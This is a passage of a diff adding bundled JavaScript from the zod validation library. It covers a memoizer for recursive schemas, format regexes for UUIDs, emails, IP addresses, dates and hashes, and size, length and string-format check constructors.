+                        // Nothing here can ever fire, so take it back out.
+                        inst._zod.parse = base;
+                        if (inst._zod.run === wrapped)
+                            inst._zod.run = base;
+                        return base(payload, ctx);
+                    }
+                    // this parse resolves the deferred edges on its own path, so ask once more before latching
+                    if (walked === PROVEN || rechecked)
+                        isRecursiveInst = true;
+                    else
+                        rechecked = true;
+                }
+                const input = payload.value;
+                if (!isRef(input))
+                    return base(payload, ctx);
+                let state = ctx[STATE];
+                if (!state) {
+                    state = { buckets: new WeakMap(), backEdges: undefined };
+                    ctx[STATE] = state;
+                }
+                let bucket;
+                if (lastCtx === ctx) {
+                    bucket = lastBucket;
+                }
+                else {
+                    bucket = bucketFor(state, inst);
+                    lastCtx = ctx;
+                    lastBucket = bucket;
+                }
+                const hit = bucket.get(input);
+                if (hit) {
+                    payload.value = hit.value;
+                    if (hit.issues) {
+                        if (hit.issues.length)
+                            payload.issues.push(...cloneIssues(hit.issues));
+                    }
+                    else {
+                        // Still being parsed: its own checks cover it, so skip them here.
+                        payload.memo = true;
+                        state.backEdges ?? (state.backEdges = new WeakSet());
+                        state.backEdges.add(hit.value);
+                    }
+                    return payload;
+                }
+                handoff = bucket;
+                const depth = memoizer_open.length;
+                const result = base(payload, ctx);
+                handoff = undefined;
+                // A container that rejected its input outright allocated nothing.
+                const entry = memoizer_open.length > depth ? memoizer_open.pop() : undefined;
+                // Both paths written out so the sync one allocates no closure. It runs once per node, and capturing here cost more than everything else combined.
+                if (result instanceof Promise) {
+                    return result.then((r) => {
+                        if (entry)
+                            entry.issues = r.issues.length ? cloneIssues(r.issues) : NO_ISSUES;
+                        return r;
+                    });
+                }
+                if (entry)
+                    entry.issues = result.issues.length ? cloneIssues(result.issues) : NO_ISSUES;
+                return result;
+            };
+            inst._zod.parse = wrapped;
+            if (inst._zod.run === base)
+                inst._zod.run = wrapped;
+        });
+    },
+};
+/** The memoizer that gives containers cycle support. `zod` installs it by default; `zod/mini` opts in with `config({ memoizer: memoizer() })`. */
+function memoizer() {
+    return memo;
+}
+/** Whether this value is a node a back-edge resolved to before it finished. */
+function isBackEdge(ctx, value) {
+    const backEdges = ctx[STATE]?.backEdges;
+    return backEdges !== undefined && isRef(value) && backEdges.has(value);
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/regexes.js
+
+/**
+ * @deprecated CUID v1 is deprecated by its authors due to information leakage
+ * (timestamps embedded in the id). Use {@link cuid2} instead.
+ * See https://github.com/paralleldrive/cuid.
+ */
+const cuid = /^[cC][0-9a-z]{6,}$/;
+const cuid2 = /^[0-9a-z]+$/;
+const ulid = /^[0-7][0-9A-HJKMNP-TV-Za-hjkmnp-tv-z]{25}$/;
+const xid = /^[0-9a-vA-V]{20}$/;
+const ksuid = /^[A-Za-z0-9]{27}$/;
+const nanoid = /^[a-zA-Z0-9_-]{21}$/;
+function nanoidOfLength(length) {
+    return new RegExp(`^[a-zA-Z0-9_-]{${length}}$`);
+}
+/** ISO 8601-1 duration regex. Does not support the 8601-2 extensions like negative durations or fractional/negative components. */
+const duration = /^P(?:(\d+W)|(?!.*W)(?=\d|T\d)(\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+([.,]\d+)?S)?)?)$/;
+/** Implements ISO 8601-2 extensions like explicit +- prefixes, mixing weeks with other units, and fractional/negative components. */
+const extendedDuration = /^[-+]?P(?!$)(?:(?:[-+]?\d+Y)|(?:[-+]?\d+[.,]\d+Y$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:(?:[-+]?\d+W)|(?:[-+]?\d+[.,]\d+W$))?(?:(?:[-+]?\d+D)|(?:[-+]?\d+[.,]\d+D$))?(?:T(?=[\d+-])(?:(?:[-+]?\d+H)|(?:[-+]?\d+[.,]\d+H$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:[-+]?\d+(?:[.,]\d+)?S)?)??$/;
+/** A regex for any UUID-like identifier: 8-4-4-4-12 hex pattern */
+const guid = /^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$/;
+/** Returns a regex for validating an RFC 9562/4122 UUID.
+ *
+ * @param version Optionally specify a version 1-8. If no version is specified, all versions are supported. */
+const uuid = (version) => {
+    if (!version)
+        return /^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-8][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}|00000000-0000-0000-0000-000000000000|ffffffff-ffff-ffff-ffff-ffffffffffff)$/;
+    return new RegExp(`^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-${version}[0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12})$`);
+};
+const uuid4 = /*@__PURE__*/ (/* unused pure expression or super */ null && (uuid(4)));
+const uuid6 = /*@__PURE__*/ (/* unused pure expression or super */ null && (uuid(6)));
+const uuid7 = /*@__PURE__*/ (/* unused pure expression or super */ null && (uuid(7)));
+/** Practical email validation */
+const email = /^(?:[A-Za-z0-9_'+\-]+\.)*[A-Za-z0-9_'+\-]*[A-Za-z0-9_+-]@(?:[A-Za-z0-9][A-Za-z0-9\-]*\.)+[A-Za-z]{2,}$/;
+/** Equivalent to the HTML5 input[type=email] validation implemented by browsers. Source: https://developer.mozilla.org/en-US/docs/Web/HTML/Element/input/email */
+const html5Email = /^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/;
+/** The classic emailregex.com regex for RFC 5322-compliant emails */
+const rfc5322Email = /^(([^<>()\[\]\\.,;:\s@"]+(\.[^<>()\[\]\\.,;:\s@"]+)*)|(".+"))@((\[[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}])|(([a-zA-Z\-0-9]+\.)+[a-zA-Z]{2,}))$/;
+/** A loose regex that allows Unicode characters, enforces length limits, and that's about it. */
+const unicodeEmail = /^[^\s@"]{1,64}@[^\s@]{1,255}$/u;
+const idnEmail = (/* unused pure expression or super */ null && (unicodeEmail));
+const browserEmail = /^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/;
+// from https://thekevinscott.com/emojis-in-javascript/#writing-a-regular-expression
+// Single character class, not an alternation: the two properties overlap (U+1F9B0-U+1F9B3), so `(A|B)+` backtracks exponentially on a failed match. The leading lookahead then demands one anchor — a pictograph, a regional indicator, or the enclosing keycap — because `\p{Emoji_Component}` on its own covers ASCII digits, `#`, `*`, ZWJ, variation selectors and skin tone modifiers, none of which is an emoji without a base.
+const _emoji = `^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$`;
+function emoji() {
+    return new RegExp(_emoji, "u");
+}
+const ipv4 = /^(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])$/;
+const ipv6 = /^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))$/;
+const mac = (delimiter) => {
+    const escapedDelim = util.escapeRegex(delimiter ?? ":");
+    return new RegExp(`^(?:[0-9A-F]{2}${escapedDelim}){5}[0-9A-F]{2}$|^(?:[0-9a-f]{2}${escapedDelim}){5}[0-9a-f]{2}$`);
+};
+const cidrv4 = /^((25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\/([0-9]|[1-2][0-9]|3[0-2])$/;
+const cidrv6 = /^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))\/(12[0-8]|1[01][0-9]|[1-9]?[0-9])$/;
+// https://stackoverflow.com/questions/7860392/determine-if-string-is-in-base64-using-javascript
+const base64 = /^$|^(?:[0-9a-zA-Z+/]{4})*(?:(?:[0-9a-zA-Z+/]{2}==)|(?:[0-9a-zA-Z+/]{3}=))?$/;
+const base64url = /^(?:[A-Za-z0-9_-]{4})*(?:[A-Za-z0-9_-]{2,3})?$/;
+// based on https://stackoverflow.com/questions/106179/regular-expression-to-match-dns-hostname-or-ip-address
+// export const hostname: RegExp = /^([a-zA-Z0-9-]+\.)*[a-zA-Z0-9-]+$/;
+const hostname = /^(?=.{1,253}\.?$)[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[-0-9a-zA-Z]{0,61}[0-9a-zA-Z])?)*\.?$/;
+const domain = /^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}$/;
+const httpProtocol = /^https?$/;
+// https://blog.stevenlevithan.com/archives/validate-phone-number#r4-3 (regex sans spaces) E.164: leading digit must be 1-9; total digits (excluding '+') between 7-15
+const e164 = /^\+[1-9]\d{6,14}$/;
+// Credit card shape: 12–19 digits, optionally separated by single spaces or single hyphens. ISO/IEC 7812 caps the PAN at 19 digits; 12 is the shortest issued length (Maestro).
+const creditCard = /^\d(?:[ -]?\d){11,18}$/;
+// ISO 4217 alpha codes from the SIX list, regenerated by scripts/update-iso-4217.ts
+const currencyCode = /^(?:AED|AFN|ALL|AMD|AOA|ARS|AUD|AWG|AZN|BAM|BBD|BDT|BHD|BIF|BMD|BND|BOB|BOV|BRL|BSD|BTN|BWP|BYN|BZD|CAD|CDF|CHE|CHF|CHW|CLF|CLP|CNY|COP|COU|CRC|CUP|CVE|CZK|DJF|DKK|DOP|DZD|EGP|ERN|ETB|EUR|FJD|FKP|GBP|GEL|GHS|GIP|GMD|GNF|GTQ|GYD|HKD|HNL|HTG|HUF|IDR|ILS|INR|IQD|IRR|ISK|JMD|JOD|JPY|KES|KGS|KHR|KMF|KPW|KRW|KWD|KYD|KZT|LAK|LBP|LKR|LRD|LSL|LYD|MAD|MDL|MGA|MKD|MMK|MNT|MOP|MRU|MUR|MVR|MWK|MXN|MXV|MYR|MZN|NAD|NGN|NIO|NOK|NPR|NZD|OMR|PAB|PEN|PGK|PHP|PKR|PLN|PYG|QAR|RON|RSD|RUB|RWF|SAR|SBD|SCR|SDG|SEK|SGD|SHP|SLE|SOS|SRD|SSP|STN|SVC|SYP|SZL|THB|TJS|TMT|TND|TOP|TRY|TTD|TWD|TZS|UAH|UGX|USD|USN|UYI|UYU|UYW|UZS|VED|VES|VND|VUV|WST|XAD|XAF|XAG|XAU|XBA|XBB|XBC|XBD|XCD|XCG|XDR|XOF|XPD|XPF|XPT|XSU|XTS|XUA|XXX|YER|ZAR|ZMW|ZWG)$/;
+// iban electronic format: 2-letter country, check digits 02-98 (the only values `98 - remainder` can produce), 11-30 bban characters
+const iban = /^[A-Z]{2}(?!00|01|99)\d{2}[A-Z0-9]{11,30}$/;
+const dateSource = `(?:(?:\\d\\d[2468][048]|\\d\\d[13579][26]|\\d\\d0[48]|[02468][048]00|[13579][26]00)-02-29|\\d{4}-(?:(?:0[13578]|1[02])-(?:0[1-9]|[12]\\d|3[01])|(?:0[469]|11)-(?:0[1-9]|[12]\\d|30)|(?:02)-(?:0[1-9]|1\\d|2[0-8])))`;
+/** Anchors a pattern source. The interpolation lives here rather than at the call site because
+ * esbuild will not drop a `@__PURE__` call whose own argument interpolates a variable, but it
+ * will drop `anchor(dateSource)`. Keeping it inline pinned `date` into every bundle. */
+function regexes_anchor(source) {
+    return new RegExp(`^${source}$`);
+}
+const date = /*@__PURE__*/ regexes_anchor(dateSource);
+function timeSource(args) {
+    const hhmm = `(?:[01]\\d|2[0-3]):[0-5]\\d`;
+    const regex = typeof args.precision === "number"
+        ? args.precision === -1
+            ? `${hhmm}`
+            : args.precision === 0
+                ? `${hhmm}:[0-5]\\d`
+                : `${hhmm}:[0-5]\\d\\.\\d{${args.precision}}`
+        : args.seconds
+            ? `${hhmm}:[0-5]\\d(?:\\.\\d+)?`
+            : `${hhmm}(?::[0-5]\\d(?:\\.\\d+)?)?`;
+    return regex;
+}
+function time(args) {
+    return new RegExp(`^${timeSource(args)}$`);
+}
+// Adapted from https://stackoverflow.com/a/3143231
+function datetime(args) {
+    const opts = ["Z"];
+    // if (args.offset) opts.push(`([+-]\\d{2}:\\d{2})`);
+    if (args.offset)
+        opts.push(`([+-](?:[01]\\d|2[0-3]):[0-5]\\d)`);
+    // RFC 3339 mandates seconds wherever the time carries a `Z` or an offset, so only the unqualified form `local` adds may omit them
+    const qualified = `${timeSource({ precision: args.precision, seconds: true })}(?:${opts.join("|")})`;
+    const timeRegex = args.local ? `${qualified}|${timeSource({ precision: args.precision })}` : qualified;
+    return new RegExp(`^${dateSource}T(?:${timeRegex})$`);
+}
+// the unbounded form of `string()` as a literal, so every plain string shares one instance instead of building its own
+const anyString = /^[\s\S]{0,}$/;
+const string = (params) => {
+    const regex = params ? `[\\s\\S]{${params?.minimum ?? 0},${params?.maximum ?? ""}}` : `[\\s\\S]*`;
+    return new RegExp(`^${regex}$`);
+};
+const bigint = /^-?\d+n?$/;
+const integer = /^-?\d+$/;
+const number = /^-?\d+(?:\.\d+)?$/;
+const regexes_boolean = /^(?:true|false)$/i;
+const _null = /^null$/i;
+
+const _undefined = /^undefined$/i;
+
+// regex for string with no uppercase letters
+const lowercase = /^[^A-Z]*$/;
+// regex for string with no lowercase letters
+const uppercase = /^[^a-z]*$/;
+// regex for hexadecimal strings (any length)
+const hex = /^[0-9a-fA-F]*$/;
+// Hash regexes for different algorithms and encodings
+// Helper function to create base64 regex with exact length and padding
+function fixedBase64(bodyLength, padding) {
+    return new RegExp(`^[A-Za-z0-9+/]{${bodyLength}}${padding}$`);
+}
+// Helper function to create base64url regex with exact length (no padding)
+function fixedBase64url(length) {
+    return new RegExp(`^[A-Za-z0-9_-]{${length}}$`);
+}
+// MD5 (16 bytes): base64 = 24 chars total (22 + "==")
+const md5_hex = /^[0-9a-fA-F]{32}$/;
+const md5_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(22, "==")));
+const md5_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(22)));
+// SHA1 (20 bytes): base64 = 28 chars total (27 + "=")
+const sha1_hex = /^[0-9a-fA-F]{40}$/;
+const sha1_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(27, "=")));
+const sha1_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(27)));
+// SHA256 (32 bytes): base64 = 44 chars total (43 + "=")
+const sha256_hex = /^[0-9a-fA-F]{64}$/;
+const sha256_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(43, "=")));
+const sha256_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(43)));
+// SHA384 (48 bytes): base64 = 64 chars total (no padding)
+const sha384_hex = /^[0-9a-fA-F]{96}$/;
+const sha384_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(64, "")));
+const sha384_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(64)));
+// SHA512 (64 bytes): base64 = 88 chars total (86 + "==")
+const sha512_hex = /^[0-9a-fA-F]{128}$/;
+const sha512_base64 = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64(86, "==")));
+const sha512_base64url = /*@__PURE__*/ (/* unused pure expression or super */ null && (fixedBase64url(86)));
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/checks.js
+// import { $ZodType } from "./schemas.js";
+
+
+
+const $ZodCheck = /*@__PURE__*/ $constructor("$ZodCheck", (inst, def) => {
+    var _a;
+    inst._zod ?? (inst._zod = {});
+    inst._zod.def = def;
+    (_a = inst._zod).onattach ?? (_a.onattach = []);
+});
+/** Default `when` for size-based checks: run only on non-nullish values with a `size`. */
+const _whenHasSize = (payload) => {
+    const val = payload.value;
+    return !util.nullish(val) && val.size !== undefined;
+};
+/** Default `when` for length-based checks: run only on non-nullish values with a `length`. */
+const _whenHasLength = (payload) => {
+    const val = payload.value;
+    return !nullish(val) && val.length !== undefined;
+};
+const numericOriginMap = {
+    number: "number",
+    bigint: "bigint",
+    object: "date",
+};
+const $ZodCheckLessThan = /*@__PURE__*/ $constructor("$ZodCheckLessThan", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const origin = numericOriginMap[typeof def.value];
+    inst._zod.check = (payload) => {
+        if (def.inclusive ? payload.value <= def.value : payload.value < def.value) {
+            return;
+        }
+        payload.issues.push({
+            origin: numericOriginMap[typeof payload.value] ?? origin,
+            code: "too_big",
+            maximum: typeof def.value === "object" ? def.value.getTime() : def.value,
+            input: payload.value,
+            inclusive: def.inclusive,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckGreaterThan = /*@__PURE__*/ $constructor("$ZodCheckGreaterThan", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const origin = numericOriginMap[typeof def.value];
+    inst._zod.check = (payload) => {
+        if (def.inclusive ? payload.value >= def.value : payload.value > def.value) {
+            return;
+        }
+        payload.issues.push({
+            origin: numericOriginMap[typeof payload.value] ?? origin,
+            code: "too_small",
+            minimum: typeof def.value === "object" ? def.value.getTime() : def.value,
+            input: payload.value,
+            inclusive: def.inclusive,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckMultipleOf = 
+/*@__PURE__*/ $constructor("$ZodCheckMultipleOf", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    inst._zod.check = (payload) => {
+        if (typeof payload.value !== typeof def.value)
+            throw new Error("Cannot mix number and bigint in multiple_of check.");
+        const isMultiple = typeof payload.value === "bigint"
+            ? // `value % 0n` throws, and nothing is a multiple of zero — the number branch already fails this way via NaN
+                def.value !== BigInt(0) && payload.value % def.value === BigInt(0)
+            : floatSafeRemainder(payload.value, def.value) === 0;
+        if (isMultiple)
+            return;
+        payload.issues.push({
+            origin: typeof payload.value,
+            code: "not_multiple_of",
+            divisor: def.value,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckNumberFormat = /*@__PURE__*/ $constructor("$ZodCheckNumberFormat", (inst, def) => {
+    $ZodCheck.init(inst, def); // no format checks
+    def.format = def.format || "float64";
+    const isInt = def.format?.includes("int");
+    const origin = isInt ? "int" : "number";
+    const [minimum, maximum] = NUMBER_FORMAT_RANGES[def.format];
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        if (isInt) {
+            if (!Number.isInteger(input)) {
+                // invalid_format issue
+                // payload.issues.push({
+                //   expected: def.format,
+                //   format: def.format,
+                //   code: "invalid_format",
+                //   input,
+                //   inst,
+                // });
+                // invalid_type issue
+                payload.issues.push({
+                    expected: origin,
+                    format: def.format,
+                    code: "invalid_type",
+                    continue: false,
+                    input,
+                    inst,
+                });
+                return;
+                // not_multiple_of issue
+                // payload.issues.push({
+                //   code: "not_multiple_of",
+                //   origin: "number",
+                //   input,
+                //   inst,
+                //   divisor: 1,
+                // });
+            }
+            if (!Number.isSafeInteger(input)) {
+                if (input > 0) {
+                    // too_big
+                    payload.issues.push({
+                        input,
+                        code: "too_big",
+                        maximum: Number.MAX_SAFE_INTEGER,
+                        note: "Integers must be within the safe integer range.",
+                        inst,
+                        origin,
+                        inclusive: true,
+                        continue: !def.abort,
+                    });
+                }
+                else {
+                    // too_small
+                    payload.issues.push({
+                        input,
+                        code: "too_small",
+                        minimum: Number.MIN_SAFE_INTEGER,
+                        note: "Integers must be within the safe integer range.",
+                        inst,
+                        origin,
+                        inclusive: true,
+                        continue: !def.abort,
+                    });
+                }
+                return;
+            }
+        }
+        if (input < minimum) {
+            payload.issues.push({
+                origin: "number",
+                input,
+                code: "too_small",
+                minimum,
+                inclusive: true,
+                inst,
+                continue: !def.abort,
+            });
+        }
+        if (input > maximum) {
+            payload.issues.push({
+                origin: "number",
+                input,
+                code: "too_big",
+                maximum,
+                inclusive: true,
+                inst,
+                continue: !def.abort,
+            });
+        }
+    };
+});
+const $ZodCheckBigIntFormat = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckBigIntFormat", (inst, def) => {
+    $ZodCheck.init(inst, def); // no format checks
+    const [minimum, maximum] = util.BIGINT_FORMAT_RANGES[def.format];
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        if (input < minimum) {
+            payload.issues.push({
+                origin: "bigint",
+                input,
+                code: "too_small",
+                minimum: minimum,
+                inclusive: true,
+                inst,
+                continue: !def.abort,
+            });
+        }
+        if (input > maximum) {
+            payload.issues.push({
+                origin: "bigint",
+                input,
+                code: "too_big",
+                maximum,
+                inclusive: true,
+                inst,
+                continue: !def.abort,
+            });
+        }
+    };
+})));
+const $ZodCheckMaxSize = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckMaxSize", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasSize);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const size = input.size;
+        if (size <= def.maximum)
+            return;
+        payload.issues.push({
+            origin: util.getSizableOrigin(input),
+            code: "too_big",
+            maximum: def.maximum,
+            inclusive: true,
+            input,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+const $ZodCheckMinSize = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckMinSize", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasSize);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const size = input.size;
+        if (size >= def.minimum)
+            return;
+        payload.issues.push({
+            origin: util.getSizableOrigin(input),
+            code: "too_small",
+            minimum: def.minimum,
+            inclusive: true,
+            input,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+const $ZodCheckSizeEquals = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("$ZodCheckSizeEquals", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasSize);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const size = input.size;
+        if (size === def.size)
+            return;
+        const tooBig = size > def.size;
+        payload.issues.push({
+            origin: util.getSizableOrigin(input),
+            ...(tooBig ? { code: "too_big", maximum: def.size } : { code: "too_small", minimum: def.size }),
+            inclusive: true,
+            exact: true,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+})));
+const $ZodCheckMaxLength = /*@__PURE__*/ $constructor("$ZodCheckMaxLength", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasLength);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const units = input.length;
+        // Strings are measured in Unicode code points, not UTF-16 units. A code point is at most two units, so a string that already fits in units fits in code points; only an overflow has to be counted.
+        const length = typeof input === "string" && units > def.maximum ? codePointLength(input) : units;
+        if (length <= def.maximum)
+            return;
+        const origin = getLengthableOrigin(input);
+        payload.issues.push({
+            origin,
+            code: "too_big",
+            maximum: def.maximum,
+            inclusive: true,
+            input,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckMinLength = /*@__PURE__*/ $constructor("$ZodCheckMinLength", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasLength);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const units = input.length;
+        // A code point is one or two UTF-16 units, so fewer units than the floor can never reach it and twice the floor always clears it. Only in between is the exact count in doubt.
+        const length = typeof input === "string" && units >= def.minimum && units < def.minimum * 2
+            ? codePointLength(input)
+            : units;
+        if (length >= def.minimum)
+            return;
+        const origin = getLengthableOrigin(input);
+        payload.issues.push({
+            origin,
+            code: "too_small",
+            minimum: def.minimum,
+            inclusive: true,
+            input,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckLengthEquals = /*@__PURE__*/ $constructor("$ZodCheckLengthEquals", (inst, def) => {
+    var _a;
+    $ZodCheck.init(inst, def);
+    (_a = inst._zod.def).when ?? (_a.when = _whenHasLength);
+    inst._zod.check = (payload) => {
+        const input = payload.value;
+        const units = input.length;
+        // A code point is one or two UTF-16 units, so outside `[length, length * 2]` units the target is missed either way — and missed in the same direction in both measures.
+        const length = typeof input === "string" && units >= def.length && units <= def.length * 2
+            ? codePointLength(input)
+            : units;
+        if (length === def.length)
+            return;
+        const origin = getLengthableOrigin(input);
+        const tooBig = length > def.length;
+        payload.issues.push({
+            origin,
+            ...(tooBig ? { code: "too_big", maximum: def.length } : { code: "too_small", minimum: def.length }),
+            inclusive: true,
+            exact: true,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckStringFormat = /*@__PURE__*/ $constructor("$ZodCheckStringFormat", (inst, def) => {
+    var _a, _b;
+    $ZodCheck.init(inst, def);
+    if (def.pattern)
+        (_a = inst._zod).check ?? (_a.check = (payload) => {
+            def.pattern.lastIndex = 0;
+            if (def.pattern.test(payload.value))
+                return;
+            payload.issues.push({
+                origin: "string",
+                code: "invalid_format",
+                format: def.format,
+                input: payload.value,
+                ...(def.pattern ? { pattern: def.pattern.toString() } : {}),
+                inst,
+                continue: !def.abort,
+            });
+        });
+    else
+        (_b = inst._zod).check ?? (_b.check = () => { });
+});
+const $ZodCheckRegex = /*@__PURE__*/ $constructor("$ZodCheckRegex", (inst, def) => {
+    $ZodCheckStringFormat.init(inst, def);
+    inst._zod.check = (payload) => {
+        def.pattern.lastIndex = 0;
+        if (def.pattern.test(payload.value))
+            return;
+        payload.issues.push({
+            origin: "string",
+            code: "invalid_format",
+            format: "regex",
+            input: payload.value,
+            pattern: def.pattern.toString(),
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckLowerCase = /*@__PURE__*/ $constructor("$ZodCheckLowerCase", (inst, def) => {
+    def.pattern ?? (def.pattern = lowercase);
+    $ZodCheckStringFormat.init(inst, def);
+});
+const $ZodCheckUpperCase = /*@__PURE__*/ $constructor("$ZodCheckUpperCase", (inst, def) => {
+    def.pattern ?? (def.pattern = uppercase);
+    $ZodCheckStringFormat.init(inst, def);
+});
+const $ZodCheckIncludes = /*@__PURE__*/ $constructor("$ZodCheckIncludes", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const escapedRegex = escapeRegex(def.includes);
+    // `String.prototype.includes(sub, position)` matches `sub` at `position`
+    // OR LATER, so the pattern must allow at least `position` leading chars
+    // (`{N,}`), not exactly `position` chars (`{N}`).
+    const pattern = new RegExp(typeof def.position === "number" ? `^.{${def.position},}${escapedRegex}` : escapedRegex);
+    def.pattern = pattern;
+    inst._zod.check = (payload) => {
+        if (payload.value.includes(def.includes, def.position))
+            return;
+        payload.issues.push({
+            origin: "string",
+            code: "invalid_format",
+            format: "includes",
+            includes: def.includes,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckStartsWith = /*@__PURE__*/ $constructor("$ZodCheckStartsWith", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const pattern = new RegExp(`^${escapeRegex(def.prefix)}.*`);
+    def.pattern ?? (def.pattern = pattern);
+    inst._zod.check = (payload) => {
+        if (payload.value.startsWith(def.prefix))
+            return;
+        payload.issues.push({
+            origin: "string",
+            code: "invalid_format",
+            format: "starts_with",
+            prefix: def.prefix,
+            input: payload.value,
+            inst,
+            continue: !def.abort,
+        });
+    };
+});
+const $ZodCheckEndsWith = /*@__PURE__*/ $constructor("$ZodCheckEndsWith", (inst, def) => {
+    $ZodCheck.init(inst, def);
+    const pattern = new RegExp(`.*${escapeRegex(def.suffix)}$`);
+    def.pattern ?? (def.pattern = pattern);
+    inst._zod.check = (payload) => {
+        if (payload.value.endsWith(def.suffix))
+            return;
+        payload.issues.push({
+            origin: "string",
+            code: "invalid_format",
